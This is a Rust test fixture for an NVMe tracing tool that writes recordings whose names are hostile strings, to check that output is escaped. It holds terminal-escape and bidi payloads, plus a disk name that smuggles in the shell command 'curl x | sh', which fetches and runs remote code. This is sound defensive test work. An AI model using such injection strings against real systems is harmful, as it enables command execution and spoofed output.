// SPDX-License-Identifier: MIT OR Apache-2.0
//! Recordings whose names were chosen by somebody who wants to write more than a name. The types of the
//! library escape such names, so this writes them as JSON values.

use std::fs::File;
use std::mem::take;
use std::path::Path;

use nvme_deep::model::event::{Event, EventKind, StackId};
use nvme_deep::model::ledger::{HookLine, Ledger, MissingHook, PointMethod};
use nvme_deep::model::machine::{
    ControllerInfo, DiskInfo, IoCost, IoLimit, IoLimits, MachineController, MachineDisk,
    MachineInfo, UpperDisk,
};
use nvme_deep::model::point::Point;
use nvme_deep::model::stack::{Frame, StackAt, Symbol};
use nvme_deep::model::stage::StageSet;
use nvme_deep::model::timeline::Timeline;
use nvme_deep::recording::{
    ClockOffset, Content, Fact, Item, LedgerInfo, Reader, RunInfo, StackInfo, Writer,
};

use serde::Serialize;
use serde_json::Value;

use crate::testing::recording::{SECOND, read_at};

/// Clears a screen, sets a title, writes a line and a path of its own, ends XML and JSON, turns the
/// direction of text.
pub const EVIL: &str = "=x\naccuracy  exact: 7 commands, 0 lost\x1b[2J\x1b]0;t\x07\u{9b}2J\r\t;y 9\u{202e}\u{2028}<&\"\\}]]>,";
/// A disk name that ends a path in a shell command.
pub const SHELL: &str = "nvme0n1; curl x | sh #";

/// The name of the thread that submits.
pub const COMM: &[u8] = b"=a\nb\x1b[2J,\xff\"\\;";
/// Stand for [`EVIL`] and the name of the disk until a block is written.
const EVIL_HERE: &str = "@evil";
const DISK_HERE: &str = "@disk";
const READS: u64 = 200;

/// JSON of a block with the hostile names themselves.
fn hostile(block: &impl Serialize, disk: &str) -> Value {
    fn replace(value: &mut Value, disk: &str) {
        match value {
            Value::String(text) if text == EVIL_HERE => *text = EVIL.into(),
            Value::String(text) if text == DISK_HERE => *text = disk.into(),
            Value::Array(all) => all.iter_mut().for_each(|one| replace(one, disk)),
            Value::Object(all) => {
                let names = take(all).into_iter();
                let evil = |name| if name == EVIL_HERE { EVIL.into() } else { name };
                *all = names.map(|(name, value)| (evil(name), value)).collect();
                all.values_mut().for_each(|one| replace(one, disk));
            }
            _ => {}
        }
    }
    let mut value = serde_json::to_value(block).unwrap();
    replace(&mut value, disk);
    value
}

/// A read that waits 5 ms before it is built.
fn read(n: u64) -> Event {
    let mut event = read_at(2 * SECOND + n * 10_000_000);
    if let EventKind::Command(_, asked, outcome) = &mut event.what {
        asked.comm = [0; 16];
        asked.comm[..COMM.len()].copy_from_slice(COMM);
        asked.stack = StackId(1);
        let line = outcome.timeline.unwrap();
        let pattern = line.pattern() | Point::SetupIn.pattern_bit().unwrap();
        outcome.timeline = Some(Timeline::from_fn(pattern, |point| match point {
            Point::Start => line.ns(point) - 5_000_000,
            Point::SetupIn => line.ns(Point::SetupOut) - 500,
            _ => line.ns(point),
        }));
    }
    event
}

fn frame(name: &str) -> Frame {
    let symbol = Symbol { name: name.into(), offset: 16, module: Some(name.into()) };
    Frame { address: 0, symbol: Some(symbol) }
}

fn ledger() -> LedgerInfo {
    let evil = || EVIL_HERE.into();
    let ledger = Ledger {
        seen: READS,
        matched: READS,
        misses_known: true,
        hooks: vec![HookLine {
            point: Some(evil()),
            kind: evil(),
            target: evil(),
            may_stay_silent: Some(evil()),
            ..HookLine::default()
        }],
        methods: vec![PointMethod { point: evil(), method: None }],
        missing_hooks: vec![MissingHook {
            point: evil(),
            method: evil(),
            hook: evil(),
            why: evil(),
            tried: false,
            instead: Some(evil()),
        }],
        ..Ledger::default()
    };
    LedgerInfo { at_ns: 3 * SECOND, evicted: 0, ledger: Some(ledger) }
}

fn machine() -> MachineInfo {
    let evil = || Some(EVIL_HERE.into());
    let limit = IoLimit { cgroup: EVIL_HERE.into(), riops: Some(60), ..IoLimit::default() };
    MachineInfo {
        hypervisor: evil(),
        is_virtual: Some(true),
        cpus: Some(4),
        cgroup_mount: evil(),
        controllers: vec![MachineController {
            model: evil(),
            firmware: evil(),
            class_reason: EVIL_HERE.into(),
            address: evil(),
            transport: Some("pcie".into()),
            depth: Some(1024),
            state: evil(),
            iommu_group: evil(),
            disks: vec![MachineDisk {
                name: DISK_HERE.into(),
                nsid: 1,
                scheduler: evil(),
                write_cache: evil(),
                limits: Some(IoLimits { cgroups: vec![limit], more: true }),
                io_cost: Some(IoCost { enabled: true, qos: EVIL_HERE.into() }),
                zoned: evil(),
                ..MachineDisk::default()
            }],
            ..MachineController::default()
        }],
        upper: vec![UpperDisk {
            name: EVIL_HERE.into(),
            kind: evil(),
            disks: vec![DISK_HERE.into()],
            ..UpperDisk::default()
        }],
        ..MachineInfo::default()
    }
}

/// Records commands of a disk of this name.
pub fn guest(path: &Path, disk: &str, filter: &str) {
    let evil = || Some(EVIL_HERE.into());
    let info = RunInfo {
        program: EVIL_HERE.into(),
        host: evil(),
        kernel: evil(),
        arch: EVIL_HERE.into(),
        machine: evil(),
        boot_id: evil(),
        filter: if filter == EVIL { EVIL_HERE.into() } else { filter.into() },
        begin_ns: SECOND,
        pairs: true,
        sample_period: 1,
        stage_set: StageSet::Basic,
        stack: Some(StackAt::Submit),
        context: true,
        ..RunInfo::default()
    };
    let mut file = Writer::create(File::create(path).unwrap(), None).unwrap();
    file.block(Content::Run, SECOND, &hostile(&info, disk));
    file.block(Content::Clock, SECOND, &hostile(&ClockOffset { wall_ns: 0 }, disk));
    let controllers = [ControllerInfo {
        model: EVIL_HERE.into(),
        transport: EVIL_HERE.into(),
        nqn: evil(),
        disks: vec![DiskInfo { name: DISK_HERE.into(), nsid: 1, lba_bytes: 512, csi: 0 }],
        ..ControllerInfo::default()
    }];
    file.block(Content::Controllers, SECOND, &hostile(&controllers, disk));
    file.block(Content::Machine, SECOND, &hostile(&machine(), disk));
    let stack =
        StackInfo { id: StackId(1), frames: vec![frame(EVIL_HERE), frame("nvme_queue_rq")] };
    file.block(Content::Stacks, SECOND, &hostile(&[stack], disk));
    (0..READS).for_each(|n| file.push(&read(n)));
    file.flush();
    file.block(Content::End, 4 * SECOND, &hostile(&ledger(), disk));
    assert!(file.finish().error.is_none());
}

/// Copies a recording of the host side, with other texts.
pub fn host(from: &Path, to: &Path) {
    let mut reader = Reader::open(File::open(from).unwrap()).unwrap();
    let evil = || Some(EVIL_HERE.into());
    let mut info = reader.info().clone();
    (info.host, info.kernel, info.machine) = (evil(), evil(), evil());
    let target = info.target.as_mut().unwrap();
    target.by = EVIL_HERE.into();
    (target.binary, target.version) = (evil(), evil());
    let mut file = Writer::create(File::create(to).unwrap(), None).unwrap();
    file.block(Content::Run, info.begin_ns, &hostile(&info, ""));
    while let Some(item) = reader.next().unwrap() {
        match item {
            Item::Event(event) => file.push(event),
            Item::Fact(Fact::TargetControllers(mut all)) => {
                for controller in &mut all {
                    controller.name = EVIL_HERE.into();
                    controller.serial = evil();
                }
                file.block(Content::Controllers, 0, &hostile(&all, ""));
            }
            Item::Fact(Fact::Readings(all)) => {
                file.block(Content::Readings, 0, &hostile(&all, ""));
            }
            Item::Fact(Fact::End(mut end)) => {
                let ledger = end.ledger.as_mut().unwrap();
                let hook = HookLine { target: EVIL_HERE.into(), hits: 8, ..HookLine::default() };
                (ledger.ring_drops, ledger.hooks) = (1, vec![hook]);
                file.block(Content::End, 4 * SECOND, &hostile(&end, ""));
            }
            _ => {}
        }
    }
    assert!(file.finish().error.is_none());
}
